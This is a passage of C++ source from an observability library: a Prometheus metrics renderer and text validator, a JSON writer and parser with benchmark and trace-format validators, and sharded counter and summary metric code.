  std::function<void(JsonWriter&)> status_fields_;
  std::int64_t start_us_ = 0;  // steady-clock birth, for /statusz uptime

  std::mutex trace_mu_;  // /tracez captures are serialized

  std::mutex threads_mu_;
  std::vector<Conn> conn_threads_;
  std::thread run_thread_;  // start()/stop()
};

/// Tiny blocking HTTP GET for tests, scripts, and `jsr_serve --admin-get`:
/// fetches `path` from `endpoint` ("host:port" or "unix:/path"), stores the
/// response body (sans headers) and returns the HTTP status code, or -1 on
/// connect/protocol failure (with an explanation in *error when non-null).
/// Every connect/read/write is bounded by `timeout_ms` (values <= 0 mean the
/// 10 s default, comfortably past the server's own 5 s request deadline), so
/// a wedged daemon fails the call instead of hanging the caller.
int admin_http_get(const std::string& endpoint, const std::string& path,
                   std::string* body, std::string* error = nullptr,
                   long timeout_ms = 10'000);

}  // namespace jsrev::obs
