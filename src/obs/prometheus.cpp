#include "obs/prometheus.h"

#include <algorithm>
#include <cctype>
#include <cmath>
#include <cstdio>
#include <cstdlib>
#include <map>
#include <utility>

#include "obs/json.h"
#include "obs/log.h"

namespace jsrev::obs {

namespace {

bool name_char_ok(char c) {
  return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') ||
         (c >= '0' && c <= '9') || c == '_';
}

bool ends_with(std::string_view s, std::string_view suffix) {
  return s.size() >= suffix.size() &&
         s.substr(s.size() - suffix.size()) == suffix;
}

/// Escapes a label value per the exposition spec: \ " and newline.
std::string escape_label_value(std::string_view v) {
  std::string out;
  out.reserve(v.size());
  for (const char c : v) {
    switch (c) {
      case '\\': out += "\\\\"; break;
      case '"': out += "\\\""; break;
      case '\n': out += "\\n"; break;
      default: out += c;
    }
  }
  return out;
}

std::string format_value(double v) {
  if (std::isinf(v)) return v > 0 ? "+Inf" : "-Inf";
  if (std::isnan(v)) return "NaN";
  // Integral values (counter totals, bucket counts) print without exponent
  // or fraction; everything else uses round-trip %.17g-style shortening.
  if (v == std::floor(v) && std::fabs(v) < 1e15) {
    char buf[32];
    std::snprintf(buf, sizeof buf, "%.0f", v);
    return buf;
  }
  char buf[64];
  for (int prec = 1; prec <= 17; ++prec) {
    std::snprintf(buf, sizeof buf, "%.*g", prec, v);
    double back = 0.0;
    std::sscanf(buf, "%lf", &back);
    if (back == v) break;
  }
  return buf;
}

/// Scale factor applied to every value of a metric (ms → seconds).
double unit_scale(Unit unit) { return unit == Unit::kMillis ? 1e-3 : 1.0; }

const char* kind_name(MetricKind kind) {
  switch (kind) {
    case MetricKind::kCounter: return "counter";
    case MetricKind::kGauge: return "gauge";
    case MetricKind::kSummary: return "summary";
    case MetricKind::kHistogram: return "histogram";
  }
  return "untyped";
}

/// Renders `{k="v",...}` with `extra` (when non-null) appended last.
std::string render_labels(const Labels& labels,
                          const std::pair<std::string, std::string>* extra) {
  if (labels.empty() && extra == nullptr) return "";
  std::string out = "{";
  bool first = true;
  for (const auto& [k, v] : labels) {
    if (!first) out += ',';
    first = false;
    out += k;
    out += "=\"";
    out += escape_label_value(v);
    out += '"';
  }
  if (extra != nullptr) {
    if (!first) out += ',';
    out += extra->first;
    out += "=\"";
    out += escape_label_value(extra->second);
    out += '"';
  }
  out += '}';
  return out;
}

}  // namespace

std::string prometheus_name(std::string_view registry_name, Unit unit) {
  std::string name = "jsr_";
  for (const char c : registry_name) {
    name += name_char_ok(c) ? c : '_';
  }
  if (unit == Unit::kMillis) {
    if (ends_with(name, "_ms")) name.resize(name.size() - 3);
    name += "_seconds";
  } else if (unit == Unit::kBytes) {
    if (!ends_with(name, "_bytes")) name += "_bytes";
  }
  return name;
}

std::string render_prometheus(const std::vector<MetricSample>& samples) {
  std::string out;
  std::string open_family;  // HELP/TYPE already emitted for this name
  // Family names are derived (jsr_ prefix, sanitize, _total / _seconds
  // suffixing), so two distinct registry names can land on the same family
  // — counter "x" and a metric literally named "x_total" both render as
  // jsr_x_total. Since samples are sorted by *registry* name, the repeat
  // shows up non-adjacently and would draw a second # TYPE line (or
  // duplicate series), which validate_prometheus_text rightly rejects.
  // First registry name wins a family; later colliders are dropped with a
  // comment in the exposition and a rate-limited warning.
  std::map<std::string, std::string> family_owner;  // family -> registry name
  for (const MetricSample& s : samples) {
    const std::string base = prometheus_name(s.name, s.unit);
    const std::string family =
        s.kind == MetricKind::kCounter ? base + "_total" : base;
    const double scale = unit_scale(s.unit);

    const auto [owner, inserted] = family_owner.try_emplace(family, s.name);
    if (!inserted && owner->second != s.name) {
      out += "# collision: dropped " + prometheus_name(s.name, Unit::kCount) +
             " (family " + family + " already rendered)\n";
      static LogRateLimit rate_limit(/*per_sec=*/0.1, /*burst=*/2.0);
      LogRecord(LogLevel::kWarn, "prom.family_collision", rate_limit)
          .kv("family", family)
          .kv("kept", owner->second)
          .kv("dropped", s.name);
      continue;
    }

    if (family != open_family) {
      if (!s.help.empty()) {
        std::string help;
        for (const char c : s.help) {
          if (c == '\\') help += "\\\\";
          else if (c == '\n') help += "\\n";
          else help += c;
        }
        out += "# HELP " + family + " " + help + "\n";
      }
      out += "# TYPE " + family + " " + kind_name(s.kind) + "\n";
      open_family = family;
    }

    switch (s.kind) {
      case MetricKind::kCounter:
      case MetricKind::kGauge:
        out += family + render_labels(s.labels, nullptr) + " " +
               format_value(s.value * scale) + "\n";
        break;
      case MetricKind::kSummary:
        out += family + "_sum" + render_labels(s.labels, nullptr) + " " +
               format_value(s.sum * scale) + "\n";
        out += family + "_count" + render_labels(s.labels, nullptr) + " " +
               format_value(static_cast<double>(s.count)) + "\n";
        break;
      case MetricKind::kHistogram: {
        // Cumulative le rows: our buckets are per-bucket counts with an
        // overflow tail; the exposition wants running totals plus +Inf.
        std::uint64_t cumulative = 0;
        for (std::size_t b = 0; b < s.bounds.size(); ++b) {
          cumulative += b < s.buckets.size() ? s.buckets[b] : 0;
          const std::pair<std::string, std::string> le = {
              "le", format_value(s.bounds[b] * scale)};
          out += family + "_bucket" + render_labels(s.labels, &le) + " " +
                 format_value(static_cast<double>(cumulative)) + "\n";
        }
        const std::pair<std::string, std::string> inf = {"le", "+Inf"};
        out += family + "_bucket" + render_labels(s.labels, &inf) + " " +
               format_value(static_cast<double>(s.count)) + "\n";
        out += family + "_sum" + render_labels(s.labels, nullptr) + " " +
               format_value(s.sum * scale) + "\n";
        out += family + "_count" + render_labels(s.labels, nullptr) + " " +
               format_value(static_cast<double>(s.count)) + "\n";
        break;
      }
    }
  }
  return out;
}

std::string render_prometheus(const Registry& registry) {
  return render_prometheus(registry.samples());
}

// ---------------------------------------------------------------------------
// Snapshot-JSON consumer

namespace {

bool parse_unit(std::string_view name, Unit* out) {
  if (name == "count") *out = Unit::kCount;
  else if (name == "ms") *out = Unit::kMillis;
  else if (name == "bytes") *out = Unit::kBytes;
  else return false;
  return true;
}

bool parse_kind(std::string_view name, MetricKind* out) {
  if (name == "counter") *out = MetricKind::kCounter;
  else if (name == "gauge") *out = MetricKind::kGauge;
  else if (name == "summary") *out = MetricKind::kSummary;
  else if (name == "histogram") *out = MetricKind::kHistogram;
  else return false;
  return true;
}

bool fail(std::string* error, const std::string& what) {
  if (error != nullptr) *error = what;
  return false;
}

}  // namespace

bool samples_from_metrics_json(std::string_view json,
                               std::vector<MetricSample>* out,
                               std::string* error) {
  std::string parse_error;
  const auto doc = json_parse(json, &parse_error);
  if (doc == nullptr) return fail(error, "malformed JSON: " + parse_error);
  const JsonValue* metrics = doc->find("metrics");
  if (metrics == nullptr || !metrics->is_array()) {
    return fail(error, "missing \"metrics\" array");
  }

  std::vector<MetricSample> rows;
  for (const JsonValue& m : metrics->array) {
    MetricSample s;
    const JsonValue* name = m.find("name");
    const JsonValue* type = m.find("type");
    const JsonValue* unit = m.find("unit");
    if (name == nullptr || name->kind != JsonValue::Kind::kString ||
        type == nullptr || type->kind != JsonValue::Kind::kString ||
        unit == nullptr || unit->kind != JsonValue::Kind::kString) {
      return fail(error, "metric row missing name/type/unit");
    }
    s.name = name->string;
    if (!parse_kind(type->string, &s.kind)) {
      return fail(error, "unknown metric type '" + type->string + "'");
    }
    if (!parse_unit(unit->string, &s.unit)) {
      return fail(error, "unknown metric unit '" + unit->string + "'");
    }
    if (const JsonValue* labels = m.find("labels"); labels != nullptr) {
      if (!labels->is_object()) return fail(error, "labels must be an object");
      for (const auto& [k, v] : labels->object) {
        if (v.kind != JsonValue::Kind::kString) {
          return fail(error, "label values must be strings");
        }
        s.labels[k] = v.string;
      }
    }
    switch (s.kind) {
      case MetricKind::kCounter:
      case MetricKind::kGauge: {
        const JsonValue* value = m.find("value");
        if (value == nullptr || value->kind != JsonValue::Kind::kNumber) {
          return fail(error, s.name + ": missing numeric value");
        }
        s.value = value->number;
        break;
      }
      case MetricKind::kSummary:
      case MetricKind::kHistogram: {
        const JsonValue* count = m.find("count");
        const JsonValue* sum = m.find("sum");
        if (count == nullptr || count->kind != JsonValue::Kind::kNumber) {
          return fail(error, s.name + ": missing count");
        }
        // Deterministic snapshots omit summary sums (wall time); render 0.
        s.count = static_cast<std::uint64_t>(count->number);
        s.sum = sum != nullptr && sum->kind == JsonValue::Kind::kNumber
                    ? sum->number
                    : 0.0;
        if (s.kind == MetricKind::kHistogram) {
          const JsonValue* bounds = m.find("bounds");
          const JsonValue* buckets = m.find("buckets");
          if (bounds == nullptr || !bounds->is_array() || buckets == nullptr ||
              !buckets->is_array()) {
            return fail(error, s.name + ": missing bounds/buckets");
          }
          for (const JsonValue& b : bounds->array) {
            if (b.kind != JsonValue::Kind::kNumber) {
              return fail(error, s.name + ": non-numeric bound");
            }
            s.bounds.push_back(b.number);
          }
          for (const JsonValue& b : buckets->array) {
            if (b.kind != JsonValue::Kind::kNumber) {
              return fail(error, s.name + ": non-numeric bucket");
            }
            s.buckets.push_back(static_cast<std::uint64_t>(b.number));
          }
        }
        break;
      }
    }
    rows.push_back(std::move(s));
  }

  std::sort(rows.begin(), rows.end(),
            [](const MetricSample& a, const MetricSample& b) {
              if (a.name != b.name) return a.name < b.name;
              return a.labels < b.labels;
            });
  *out = std::move(rows);
  return true;
}

// ---------------------------------------------------------------------------
// Exposition validator

namespace {

bool valid_metric_name(std::string_view name) {
  if (name.empty()) return false;
  const char c0 = name[0];
  if (!((c0 >= 'a' && c0 <= 'z') || (c0 >= 'A' && c0 <= 'Z') || c0 == '_' ||
        c0 == ':')) {
    return false;
  }
  for (const char c : name.substr(1)) {
    if (!name_char_ok(c) && c != ':') return false;
  }
  return true;
}

/// Parses one sample line into name, labels, value. Returns false on any
/// syntax error.
bool parse_sample_line(std::string_view line, std::string* name,
                       Labels* labels, double* value) {
  std::size_t i = 0;
  while (i < line.size() && line[i] != '{' && line[i] != ' ') ++i;
  *name = std::string(line.substr(0, i));
  if (!valid_metric_name(*name)) return false;

  labels->clear();
  if (i < line.size() && line[i] == '{') {
    ++i;
    while (i < line.size() && line[i] != '}') {
      std::size_t eq = i;
      while (eq < line.size() && line[eq] != '=') ++eq;
      if (eq >= line.size()) return false;
      const std::string key(line.substr(i, eq - i));
      if (!valid_metric_name(key)) return false;  // label names: same charset
      i = eq + 1;
      if (i >= line.size() || line[i] != '"') return false;
      ++i;
      std::string val;
      while (i < line.size() && line[i] != '"') {
        if (line[i] == '\\') {
          ++i;
          if (i >= line.size()) return false;
          if (line[i] == 'n') val += '\n';
          else val += line[i];
        } else {
          val += line[i];
        }
        ++i;
      }
      if (i >= line.size()) return false;  // unterminated value
      ++i;                                 // closing quote
      if (labels->count(key) != 0) return false;  // duplicate label
      (*labels)[key] = val;
      if (i < line.size() && line[i] == ',') ++i;
    }
    if (i >= line.size()) return false;  // unterminated label set
    ++i;                                 // '}'
  }
  if (i >= line.size() || line[i] != ' ') return false;
  ++i;
  const std::string rest(line.substr(i));
  if (rest.empty()) return false;
  if (rest == "+Inf") {
    *value = HUGE_VAL;
    return true;
  }
  if (rest == "-Inf") {
    *value = -HUGE_VAL;
    return true;
  }
  if (rest == "NaN") {
    *value = NAN;
    return true;
  }
  char* end = nullptr;
  *value = std::strtod(rest.c_str(), &end);
  return end != nullptr && *end == '\0';
}

std::string labels_key(const Labels& labels, std::string_view skip) {
  std::string key;
  for (const auto& [k, v] : labels) {
    if (k == skip) continue;
    key += k;
    key += '\x01';
    key += v;
    key += '\x02';
  }
  return key;
}

}  // namespace

bool validate_prometheus_text(std::string_view text, std::string* error) {
  std::map<std::string, std::string> family_type;  // name -> TYPE
  // Histogram bucket series, keyed by (family, non-le labels): the le-sorted
  // cumulative counts to check for monotonicity, plus sum/count presence.
  std::map<std::string, std::vector<std::pair<double, double>>> buckets;
  std::map<std::string, double> series_value;  // full series key -> value

  std::size_t line_no = 0;
  std::size_t pos = 0;
  while (pos < text.size()) {
    std::size_t eol = text.find('\n', pos);
    if (eol == std::string_view::npos) eol = text.size();
    const std::string_view line = text.substr(pos, eol - pos);
    pos = eol + 1;
    ++line_no;
    const auto err = [&](const std::string& what) {
      return fail(error, "line " + std::to_string(line_no) + ": " + what);
    };
    if (line.empty()) continue;
    if (line[0] == '#') {
      // "# HELP <name> <text>" / "# TYPE <name> <type>"; anything else after
      // '#' is a comment per the spec.
      if (line.rfind("# TYPE ", 0) == 0) {
        const std::string_view rest = line.substr(7);
        const std::size_t sp = rest.find(' ');
        if (sp == std::string_view::npos) return err("malformed TYPE line");
        const std::string fam(rest.substr(0, sp));
        const std::string type(rest.substr(sp + 1));
        if (!valid_metric_name(fam)) return err("bad family name in TYPE");
        if (type != "counter" && type != "gauge" && type != "histogram" &&
            type != "summary" && type != "untyped") {
          return err("unknown TYPE '" + type + "'");
        }
        if (family_type.count(fam) != 0) return err("duplicate TYPE for " + fam);
        family_type[fam] = type;
      } else if (line.rfind("# HELP ", 0) == 0) {
        const std::string_view rest = line.substr(7);
        const std::size_t sp = rest.find(' ');
        const std::string fam(rest.substr(0, sp));
        if (!valid_metric_name(fam)) return err("bad family name in HELP");
      }
      continue;
    }

    std::string name;
    Labels labels;
    double value = 0.0;
    if (!parse_sample_line(line, &name, &labels, &value)) {
      return err("unparseable sample line");
    }
    const std::string series = name + "\x03" + labels_key(labels, "");
    if (series_value.count(series) != 0) {
      return err("duplicate series " + name);
    }
    series_value[series] = value;

    // Histogram bookkeeping: attribute _bucket/_sum/_count rows to their
    // family when a histogram TYPE was declared.
    if (ends_with(name, "_bucket")) {
      const std::string fam = name.substr(0, name.size() - 7);
      const auto it = family_type.find(fam);
      if (it != family_type.end() && it->second == "histogram") {
        const auto le = labels.find("le");
        if (le == labels.end()) return err(fam + "_bucket without le label");
        double bound = 0.0;
        if (le->second == "+Inf") {
          bound = HUGE_VAL;
        } else {
          char* end = nullptr;
          bound = std::strtod(le->second.c_str(), &end);
          if (end == nullptr || *end != '\0') return err("bad le value");
        }
        buckets[fam + "\x03" + labels_key(labels, "le")].emplace_back(bound,
                                                                      value);
      }
    }
  }

  // Cross-line checks: cumulative le monotonicity, +Inf == _count, and
  // _sum/_count presence for every histogram/summary family.
  for (auto& [key, series] : buckets) {
    const std::size_t sep = key.find('\x03');
    const std::string fam = key.substr(0, sep);
    std::sort(series.begin(), series.end());
    double prev_count = -1.0;
    bool saw_inf = false;
    for (const auto& [bound, count] : series) {
      if (count + 1e-9 < prev_count) {
        return fail(error, fam + ": le bucket counts not cumulative");
      }
      prev_count = count;
      if (std::isinf(bound)) saw_inf = true;
    }
    if (!saw_inf) return fail(error, fam + ": missing le=\"+Inf\" bucket");
    const std::string count_series =
        fam + "_count\x03" + key.substr(sep + 1);
    const auto count_it = series_value.find(count_series);
    if (count_it == series_value.end()) {
      return fail(error, fam + ": missing _count");
    }
    if (series.back().second != count_it->second) {
      return fail(error, fam + ": le=\"+Inf\" bucket != _count");
    }
    if (series_value.count(fam + "_sum\x03" + key.substr(sep + 1)) == 0) {
      return fail(error, fam + ": missing _sum");
    }
  }
  for (const auto& [fam, type] : family_type) {
    if (type != "summary") continue;
    bool any = false;
    for (const auto& [series, value] : series_value) {
      (void)value;
      if (series.rfind(fam + "_count\x03", 0) == 0) any = true;
    }
    if (!any) return fail(error, fam + ": summary without _count");
  }
  return true;
}

}  // namespace jsrev::obs
