#include "obs/json.h"

#include <cstdio>
#include <stdexcept>
#include <thread>

namespace jsrev::obs {

namespace {

std::string format_double(double v) {
  char buf[64];
  std::snprintf(buf, sizeof buf, "%.17g", v);
  // Prefer the shortest representation that round-trips: try increasing
  // precision until the value survives a parse back.
  for (int prec = 1; prec < 17; ++prec) {
    char probe[64];
    std::snprintf(probe, sizeof probe, "%.*g", prec, v);
    double back = 0.0;
    std::sscanf(probe, "%lf", &back);
    if (back == v) return probe;
  }
  return buf;
}

}  // namespace

std::string json_escape(std::string_view s) {
  std::string out;
  out.reserve(s.size() + 8);
  for (const char c : s) {
    const auto u = static_cast<unsigned char>(c);
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\r': out += "\\r"; break;
      case '\t': out += "\\t"; break;
      case '\b': out += "\\b"; break;
      case '\f': out += "\\f"; break;
      default:
        if (u < 0x20) {
          char buf[8];
          std::snprintf(buf, sizeof buf, "\\u%04x", u);
          out += buf;
        } else {
          out += c;
        }
    }
  }
  return out;
}

void JsonWriter::indent() {
  out_ += '\n';
  out_.append(stack_.size() * 2, ' ');
}

void JsonWriter::before_value() {
  if (stack_.empty()) return;  // document root
  Frame& top = stack_.back();
  if (top.object && !key_pending_) {
    throw std::logic_error("JsonWriter: value inside object without key()");
  }
  if (!top.object) {
    if (top.any) out_ += ',';
    indent();
  }
  top.any = true;
  key_pending_ = false;
}

JsonWriter& JsonWriter::key(std::string_view k) {
  if (stack_.empty() || !stack_.back().object) {
    throw std::logic_error("JsonWriter: key() outside object");
  }
  if (stack_.back().any) out_ += ',';
  indent();
  out_ += '"';
  out_ += json_escape(k);
  out_ += "\": ";
  key_pending_ = true;
  return *this;
}

JsonWriter& JsonWriter::begin_object() {
  before_value();
  out_ += '{';
  stack_.push_back({true, false});
  return *this;
}

JsonWriter& JsonWriter::end_object() {
  const bool any = stack_.back().any;
  stack_.pop_back();
  if (any) indent();
  out_ += '}';
  return *this;
}

JsonWriter& JsonWriter::begin_array() {
  before_value();
  out_ += '[';
  stack_.push_back({false, false});
  return *this;
}

JsonWriter& JsonWriter::end_array() {
  const bool any = stack_.back().any;
  stack_.pop_back();
  if (any) indent();
  out_ += ']';
  return *this;
}

JsonWriter& JsonWriter::value(std::string_view v) {
  before_value();
  out_ += '"';
  out_ += json_escape(v);
  out_ += '"';
  return *this;
}

JsonWriter& JsonWriter::value(bool v) {
  before_value();
  out_ += v ? "true" : "false";
  return *this;
}

JsonWriter& JsonWriter::value(double v) {
  before_value();
  out_ += format_double(v);
  return *this;
}

JsonWriter& JsonWriter::value_fixed(double v, int prec) {
  before_value();
  char buf[64];
  std::snprintf(buf, sizeof buf, "%.*f", prec, v);
  out_ += buf;
  return *this;
}

JsonWriter& JsonWriter::value(std::int64_t v) {
  before_value();
  out_ += std::to_string(v);
  return *this;
}

JsonWriter& JsonWriter::value(std::uint64_t v) {
  before_value();
  out_ += std::to_string(v);
  return *this;
}

JsonWriter& JsonWriter::null_value() {
  before_value();
  out_ += "null";
  return *this;
}

// ---------------------------------------------------------------------------
// Parser

namespace {

class Parser {
 public:
  explicit Parser(std::string_view text) : s_(text) {}

  std::unique_ptr<JsonValue> run(std::string* error) {
    try {
      auto v = std::make_unique<JsonValue>(parse_value(0));
      skip_ws();
      if (pos_ != s_.size()) fail("trailing characters after document");
      return v;
    } catch (const std::runtime_error& e) {
      if (error != nullptr) *error = e.what();
      return nullptr;
    }
  }

 private:
  static constexpr std::size_t kMaxDepth = 200;

  [[noreturn]] void fail(const std::string& why) const {
    throw std::runtime_error("JSON error at byte " + std::to_string(pos_) +
                             ": " + why);
  }

  void skip_ws() {
    while (pos_ < s_.size() &&
           (s_[pos_] == ' ' || s_[pos_] == '\t' || s_[pos_] == '\n' ||
            s_[pos_] == '\r')) {
      ++pos_;
    }
  }

  char peek() {
    if (pos_ >= s_.size()) fail("unexpected end of input");
    return s_[pos_];
  }

  void expect(char c) {
    if (pos_ >= s_.size() || s_[pos_] != c) {
      fail(std::string("expected '") + c + "'");
    }
    ++pos_;
  }

  bool literal(std::string_view word) {
    if (s_.substr(pos_, word.size()) == word) {
      pos_ += word.size();
      return true;
    }
    return false;
  }

  JsonValue parse_value(std::size_t depth) {
    if (depth > kMaxDepth) fail("nesting too deep");
    skip_ws();
    JsonValue v;
    switch (peek()) {
      case '{': {
        v.kind = JsonValue::Kind::kObject;
        ++pos_;
        skip_ws();
        if (peek() == '}') {
          ++pos_;
          return v;
        }
        while (true) {
          skip_ws();
          std::string key = parse_string();
          skip_ws();
          expect(':');
          v.object.emplace_back(std::move(key), parse_value(depth + 1));
          skip_ws();
          if (peek() == ',') {
            ++pos_;
            continue;
          }
          expect('}');
          return v;
        }
      }
      case '[': {
        v.kind = JsonValue::Kind::kArray;
        ++pos_;
        skip_ws();
        if (peek() == ']') {
          ++pos_;
          return v;
        }
        while (true) {
          v.array.push_back(parse_value(depth + 1));
          skip_ws();
          if (peek() == ',') {
            ++pos_;
            continue;
          }
          expect(']');
          return v;
        }
      }
      case '"':
        v.kind = JsonValue::Kind::kString;
        v.string = parse_string();
        return v;
      case 't':
        if (!literal("true")) fail("bad literal");
        v.kind = JsonValue::Kind::kBool;
        v.boolean = true;
        return v;
      case 'f':
        if (!literal("false")) fail("bad literal");
        v.kind = JsonValue::Kind::kBool;
        v.boolean = false;
        return v;
      case 'n':
        if (!literal("null")) fail("bad literal");
        v.kind = JsonValue::Kind::kNull;
        return v;
      default:
        v.kind = JsonValue::Kind::kNumber;
        v.number = parse_number();
        return v;
    }
  }

  std::string parse_string() {
    expect('"');
    std::string out;
    while (true) {
      if (pos_ >= s_.size()) fail("unterminated string");
      const char c = s_[pos_++];
      if (c == '"') return out;
      if (static_cast<unsigned char>(c) < 0x20) {
        fail("raw control character in string");
      }
      if (c != '\\') {
        out += c;
        continue;
      }
      if (pos_ >= s_.size()) fail("unterminated escape");
      const char e = s_[pos_++];
      switch (e) {
        case '"': out += '"'; break;
        case '\\': out += '\\'; break;
        case '/': out += '/'; break;
        case 'n': out += '\n'; break;
        case 'r': out += '\r'; break;
        case 't': out += '\t'; break;
        case 'b': out += '\b'; break;
        case 'f': out += '\f'; break;
        case 'u': {
          if (pos_ + 4 > s_.size()) fail("short \\u escape");
          unsigned code = 0;
          for (int i = 0; i < 4; ++i) {
            const char h = s_[pos_++];
            code <<= 4;
            if (h >= '0' && h <= '9') {
              code += static_cast<unsigned>(h - '0');
            } else if (h >= 'a' && h <= 'f') {
              code += static_cast<unsigned>(h - 'a' + 10);
            } else if (h >= 'A' && h <= 'F') {
              code += static_cast<unsigned>(h - 'A' + 10);
            } else {
              fail("bad hex digit in \\u escape");
            }
          }
          // UTF-8 encode the BMP code point (surrogate pairs are kept as two
          // 3-byte sequences — fine for a validator).
          if (code < 0x80) {
            out += static_cast<char>(code);
          } else if (code < 0x800) {
            out += static_cast<char>(0xC0 | (code >> 6));
            out += static_cast<char>(0x80 | (code & 0x3F));
          } else {
            out += static_cast<char>(0xE0 | (code >> 12));
            out += static_cast<char>(0x80 | ((code >> 6) & 0x3F));
            out += static_cast<char>(0x80 | (code & 0x3F));
          }
          break;
        }
        default:
          fail("bad escape character");
      }
    }
  }

  double parse_number() {
    const std::size_t start = pos_;
    if (pos_ < s_.size() && s_[pos_] == '-') ++pos_;
    auto digits = [this] {
      std::size_t n = 0;
      while (pos_ < s_.size() && s_[pos_] >= '0' && s_[pos_] <= '9') {
        ++pos_;
        ++n;
      }
      return n;
    };
    const std::size_t int_digits = digits();
    if (int_digits == 0) fail("bad number");
    // JSON forbids leading zeros on multi-digit integers.
    if (int_digits > 1 && s_[start + (s_[start] == '-' ? 1 : 0)] == '0') {
      fail("leading zero in number");
    }
    if (pos_ < s_.size() && s_[pos_] == '.') {
      ++pos_;
      if (digits() == 0) fail("bad fraction");
    }
    if (pos_ < s_.size() && (s_[pos_] == 'e' || s_[pos_] == 'E')) {
      ++pos_;
      if (pos_ < s_.size() && (s_[pos_] == '+' || s_[pos_] == '-')) ++pos_;
      if (digits() == 0) fail("bad exponent");
    }
    double v = 0.0;
    std::sscanf(std::string(s_.substr(start, pos_ - start)).c_str(), "%lf",
                &v);
    return v;
  }

  std::string_view s_;
  std::size_t pos_ = 0;
};

}  // namespace

const JsonValue* JsonValue::find(std::string_view key) const {
  if (kind != Kind::kObject) return nullptr;
  for (const auto& [k, v] : object) {
    if (k == key) return &v;
  }
  return nullptr;
}

std::unique_ptr<JsonValue> json_parse(std::string_view text,
                                      std::string* error) {
  return Parser(text).run(error);
}

bool json_valid(std::string_view text, std::string* error) {
  return json_parse(text, error) != nullptr;
}

// ---------------------------------------------------------------------------
// BENCH envelope

void write_bench_header(JsonWriter& w, std::string_view bench_name) {
  w.begin_object();
  w.kv("schema_version", kBenchSchemaVersion);
  w.kv("bench", bench_name);
  w.kv("hardware_threads",
       static_cast<std::uint64_t>(
           std::thread::hardware_concurrency() != 0u
               ? std::thread::hardware_concurrency()
               : 1u));
}

namespace {

bool fail_with(std::string* error, const std::string& why) {
  if (error != nullptr) *error = why;
  return false;
}

}  // namespace

bool validate_bench_json(std::string_view text, std::string_view expected_bench,
                         std::string* error) {
  const auto doc = json_parse(text, error);
  if (doc == nullptr) return false;
  if (!doc->is_object()) return fail_with(error, "top level is not an object");
  const JsonValue* ver = doc->find("schema_version");
  if (ver == nullptr || ver->kind != JsonValue::Kind::kNumber ||
      static_cast<int>(ver->number) != kBenchSchemaVersion) {
    return fail_with(error, "missing or mismatched schema_version");
  }
  const JsonValue* bench = doc->find("bench");
  if (bench == nullptr || bench->kind != JsonValue::Kind::kString) {
    return fail_with(error, "missing bench name");
  }
  if (!expected_bench.empty() && bench->string != expected_bench) {
    return fail_with(error, "bench name mismatch: got " + bench->string);
  }
  const JsonValue* hw = doc->find("hardware_threads");
  if (hw == nullptr || hw->kind != JsonValue::Kind::kNumber) {
    return fail_with(error, "missing hardware_threads");
  }
  return true;
}

bool validate_chrome_trace_json(std::string_view text, std::string* error) {
  const auto doc = json_parse(text, error);
  if (doc == nullptr) return false;
  if (!doc->is_object()) return fail_with(error, "top level is not an object");
  const JsonValue* events = doc->find("traceEvents");
  if (events == nullptr || !events->is_array()) {
    return fail_with(error, "missing traceEvents array");
  }
  for (std::size_t i = 0; i < events->array.size(); ++i) {
    const JsonValue& e = events->array[i];
    if (!e.is_object()) {
      return fail_with(error, "traceEvents[" + std::to_string(i) +
                                  "] is not an object");
    }
    for (const char* field : {"name", "ph", "ts", "pid", "tid"}) {
      if (e.find(field) == nullptr) {
        return fail_with(error, "traceEvents[" + std::to_string(i) +
                                    "] missing field " + field);
      }
    }
  }
  return true;
}

}  // namespace jsrev::obs
