#include "obs/metrics.h"

#include <algorithm>
#include <cmath>
#include <cstdio>
#include <stdexcept>

#include "obs/json.h"

namespace jsrev::obs {

namespace {

std::atomic<bool> g_metrics_enabled{true};

std::string labels_to_string(const Labels& labels) {
  std::string out;
  for (const auto& [k, v] : labels) {
    if (!out.empty()) out += ',';
    out += k;
    out += '=';
    out += v;
  }
  return out;
}

}  // namespace

void set_metrics_enabled(bool enabled) noexcept {
  g_metrics_enabled.store(enabled, std::memory_order_relaxed);
}

bool metrics_enabled() noexcept {
  return g_metrics_enabled.load(std::memory_order_relaxed);
}

namespace detail {

std::size_t shard_index() noexcept {
  static std::atomic<std::size_t> next{0};
  thread_local const std::size_t idx =
      next.fetch_add(1, std::memory_order_relaxed) & (kShards - 1);
  return idx;
}

}  // namespace detail

// ---------------------------------------------------------------------------
// Counter

std::uint64_t Counter::value() const noexcept {
  std::uint64_t total = 0;
  for (const auto& c : cells_) total += c.v.load(std::memory_order_relaxed);
  return total;
}

void Counter::reset() noexcept {
  for (auto& c : cells_) c.v.store(0, std::memory_order_relaxed);
}

// ---------------------------------------------------------------------------
// Summary

void Summary::observe(double v) noexcept {
  if (!metrics_enabled()) return;
  Cell& c = cells_[detail::shard_index()];
  c.count.fetch_add(1, std::memory_order_relaxed);
  detail::atomic_add(c.sum, v);
  detail::atomic_add(c.sumsq, v * v);
  if (!c.any.exchange(true, std::memory_order_relaxed)) {
    c.min.store(v, std::memory_order_relaxed);
    c.max.store(v, std::memory_order_relaxed);
    return;
  }
  double cur = c.min.load(std::memory_order_relaxed);
  while (v < cur &&
         !c.min.compare_exchange_weak(cur, v, std::memory_order_relaxed)) {
  }
  cur = c.max.load(std::memory_order_relaxed);
  while (v > cur &&
         !c.max.compare_exchange_weak(cur, v, std::memory_order_relaxed)) {
  }
}

std::uint64_t Summary::count() const noexcept {
  std::uint64_t total = 0;
  for (const auto& c : cells_) {
    total += c.count.load(std::memory_order_relaxed);
  }
  return total;
}

double Summary::sum() const noexcept {
  double total = 0.0;
  for (const auto& c : cells_) total += c.sum.load(std::memory_order_relaxed);
  return total;
}

double Summary::mean() const noexcept {
  const std::uint64_t n = count();
  return n == 0 ? 0.0 : sum() / static_cast<double>(n);
}

double Summary::stddev() const noexcept {
  const std::uint64_t n = count();
  if (n < 2) return 0.0;
  double sumsq = 0.0;
  for (const auto& c : cells_) {
    sumsq += c.sumsq.load(std::memory_order_relaxed);
  }
  const double s = sum();
  const double var =
      (sumsq - s * s / static_cast<double>(n)) / static_cast<double>(n - 1);
  return var > 0.0 ? std::sqrt(var) : 0.0;
}

double Summary::min() const noexcept {
  double best = 0.0;
  bool any = false;
  for (const auto& c : cells_) {
    if (!c.any.load(std::memory_order_relaxed)) continue;
    const double v = c.min.load(std::memory_order_relaxed);
    best = any ? std::min(best, v) : v;
    any = true;
  }
  return best;
}

double Summary::max() const noexcept {
  double best = 0.0;
